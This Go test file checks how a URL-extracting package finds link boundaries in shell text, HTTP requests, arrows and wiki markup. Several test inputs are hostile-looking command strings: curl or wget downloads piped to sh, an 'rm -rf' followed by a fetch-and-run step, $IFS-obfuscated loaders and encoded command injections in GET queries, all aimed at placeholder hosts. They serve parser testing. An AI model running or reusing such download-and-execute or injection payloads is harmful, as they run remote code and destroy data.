package delimit_test

import (
	"strings"
	"testing"

	"urigrep/delimit"
)

// wantTargets finds the references of each text and wants their targets, with blanks between.
func wantTargets(t *testing.T, o delimit.Options, cases map[string]string) {
	t.Helper()
	for text, want := range cases {
		var got []string
		for m := range delimit.All([]byte(text), o) {
			if target, ok := m.Target(delimit.TargetOptions{}); ok {
				got = append(got, target)
			}
		}
		if got := strings.Join(got, " "); got != want {
			t.Errorf("%q:\n got %s\nwant %s", text, got, want)
		}
	}
}

// TestShell has references that are arguments of commands (rule T1).
func TestShell(t *testing.T) {
	wantTargets(t, delimit.Options{}, map[string]string{
		"wget http://a.example/b.sh;chmod 777 b.sh;curl -O http://b.example/c;cat c": "http://a.example/b.sh http://b.example/c",
		"curl -fsSL https://a.example/b.sh|sh\ncurl https://a.example/c|bash -s":     "https://a.example/b.sh https://a.example/c",
		"(wget http://a.example/b||curl -O http://a.example/b)":                      "http://a.example/b http://a.example/b",
		"RUN curl -L https://a.example/b.tgz|tar xz && wget https://b.example/c&& d": "https://a.example/b.tgz https://b.example/c",
		"export B=https://a.example/b;export C=$B/d\nB=https://c.example/d;E=f":      "https://a.example/b https://c.example/d",
		"cd /tmp; wget${IFS}http://a.example/b${IFS}-O$IFS-;x=http://c.example/$IFS": "http://a.example/b http://c.example/",
		"ada@b:~$ curl http://a.example/b?c=d&\n% curl http://a.example/b?c&&d e":    "http://a.example/b?c=d http://a.example/b?c",
		"`curl http://a.example/b|base64 -d` 'wget http://a.example/c;./c'":          "http://a.example/b http://a.example/c",
		"curl http://a.example/b|/bin/sh":                                            "http://a.example/b",
		"run http://a.example/b&&c":                                                  "http://a.example/b",
		// no shell
		"see http://a.example/b;c d":                             "http://a.example/b;c",
		"link=http://a.example/b?c=17&\n  s1=4c1b72a1& on":       "http://a.example/b?c=17&s1=4c1b72a1&",
		"see http://a.example/?b=c&&d=e":                         "http://a.example/?b=c&&d=e",
		"see http://a.example/?b=c||d and $IFS":                  "http://a.example/?b=c%7C%7Cd",
		"curl http://a.example/b;c=d http://a.example/b;jid=1#x": "http://a.example/b;c=d http://a.example/b;jid=1#x",
		"curl \"http://a.example/b;c\" 'http://a.example/b;c'":   "http://a.example/b;c http://a.example/b;c",
		"wget http://a.example/b;2 http://a.example/$B/c":        "http://a.example/b;2 http://a.example/$B/c",
	})
}

// TestRequests has references in the text of requests, in which '+' and "%20" are blanks (rule S1).
func TestRequests(t *testing.T) {
	wantTargets(t, delimit.Options{}, map[string]string{
		"GET /b?cd+/tmp;rm+-rf+*;wget+http://192.0.2.7/c;sh+/tmp/c HTTP/1.1":   "http://192.0.2.7/c",
		"GET /b?c=wget+http://192.0.2.7:80/d.m+-O+/tmp/e;sh+e&f=1 HTTP/1.0":    "http://192.0.2.7:80/d.m",
		"GET /b?c=wget%20http://192.0.2.7/d%20-O%20e":                          "http://192.0.2.7/d",
		"GET /b?c=%0Acurl%20https://a.example/d%0Ash":                          "https://a.example/d",
		"curl+https://a.example/b|sh":                                          "https://a.example/b",
		"find+tftp://a.example/b+c and git+https://a.example/b+c":              "tftp://a.example/b git+https://a.example/b+c",
		"registry+https://a.example/b svn+ssh://a.example/b http+unix://%2Fb/": "registry+https://a.example/b svn+ssh://a.example/b http+unix://%2Fb/",
		"postgresql+psycopg2://a.example/b mongodb+srv://a.example/b":          "postgresql+psycopg2://a.example/b mongodb+srv://a.example/b",
		"+http://a.example/b+c":                                                "http://a.example/b+c",
	})
}

// TestArrows has references that an arrow leads from to another (rule T1).
func TestArrows(t *testing.T) {
	wantTargets(t, delimit.Options{}, map[string]string{
		"http://a.example/b->https://c.example/d":              "http://a.example/b https://c.example/d",
		"http://a.example/b=>https://c.example/d":              "http://a.example/b https://c.example/d",
		"http://a.example/b=> www.c.example, http://a.example": "http://a.example/b http://www.c.example http://a.example",
		"http://a.example/?b==>http://c.example/":              "http://a.example/?b http://c.example/",
		"http://a.example/b-->http://c.example/":               "http://a.example/b http://c.example/",
		"http://a.example/b->next http://a.example/?b=>c":      "http://a.example/b- http://a.example/?b=",
		"<!--http://a.example/b-->":                            "http://a.example/b",
	})
}

// TestFarMarkup has references that end with emphasis or a macro. Its other half stands before them
// on the line (rule D5).
func TestFarMarkup(t *testing.T) {
	wantTargets(t, delimit.Options{}, map[string]string{
		"*Ada: sent a picture (71KB) - https://a.example/b*":                                 "https://a.example/b",
		"> It is. *See https://a.example/b*, said Ada.":                                      "https://a.example/b",
		"*See* https://a.example/b* and * https://a.example/b*":                              "https://a.example/b* https://a.example/b*",
		"if a*b https://a.example/b*":                                                        "https://a.example/b*",
		"*See https://a.example/*/b*":                                                        "https://a.example/*/b*",
		"{color:red}https://a.example/b{color}, {quote}https://a.example/b{quote} https://c": "https://a.example/b https://a.example/b https://c",
		"{code}see http://a.example/b{code}d http://a.example/c{panel}":                      "http://a.example/b http://a.example/c%7Bpanel%7D",
		"{quote}\nhttps://a.example/b{quote}\n{color}http://a.example/{color}":               "https://a.example/b http://a.example/%7Bcolor%7D",
		"{id} http://a.example/b{id} http://a.example/{id}":                                  "http://a.example/b%7Bid%7D http://a.example/%7Bid%7D",
		"_Read more at https://a.example/b_ and so on":                                       "https://a.example/b",
		"_a_b https://a.example/b_":                                                          "https://a.example/b_",
		"cd /tmp;wget${IFS}http://192.0.2.7/m;sh${IFS}m":                                     "http://192.0.2.7/m",
	})
}
